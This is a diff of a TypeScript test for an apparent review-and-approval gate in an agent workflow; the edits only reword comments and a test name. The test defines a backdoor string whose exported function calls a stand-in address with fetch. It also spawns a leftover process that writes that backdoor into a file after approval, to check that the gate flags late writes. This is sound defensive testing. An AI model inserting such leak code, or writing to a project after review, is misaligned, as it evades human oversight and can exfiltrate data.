@@ -15,14 +15,14 @@ import {
 const REVIEWED = HANDED.review();
 const BACKDOOR = `${CODE}export const leak = () => fetch("http://192.0.2.1");\n`;
 
-/** A process that a call of the agent left behind, and that no call asks about. */
+/** Writes like a process that an agent's call left behind: no call asks about it. */
 async function leftBehind(walk: Walk, path: string, text: string): Promise<void> {
   const write = "require('fs').writeFileSync(process.argv[1], process.argv[2])";
   const child = spawn(process.execPath, ["-e", write, walk.path(path), text], { stdio: "ignore" });
   expect(await once(child, "exit")).toEqual([0, null]);
 }
 
-it("what was green is what is reviewed, approved and completed, whatever writes in between (WF-88, WF-119)", async () => {
+it("what passed is what is reviewed, approved and completed, whatever is written in between (WF-88, WF-119)", async () => {
   const walk = await beginWalk();
   await walkTo(walk, "REVIEW");
   await walk.review();
@@ -33,7 +33,7 @@ it("what was green is what is reviewed, approved and completed, whatever writes 
   expect(blockers(before), reasons(before)).toEqual(["gate_stale"]);
   expect(openGates(walk.run.view, walk.contract)).toEqual([]);
 
-  // After the yes.
+  // After the approval.
   walk.put("src/add.js", CODE);
   expect(blockers(await walk.move("COMPLETE", REVIEWED))).toEqual(["gate_pending"]);
   await walk.decide("review_approved", "rita", "approved");
@@ -42,7 +42,7 @@ it("what was green is what is reviewed, approved and completed, whatever writes 
   expect(blockers(after), reasons(after)).toEqual(["gate_stale"]);
   expect(walk.phase()).toBe("REVIEW");
 
-  // As the task ends.
+  // When the task ends.
   walk.put("src/add.js", CODE);
   expect((await walk.move("COMPLETE", REVIEWED)).effect).toBe("allow");
   await leftBehind(walk, "src/more.js", BACKDOOR);
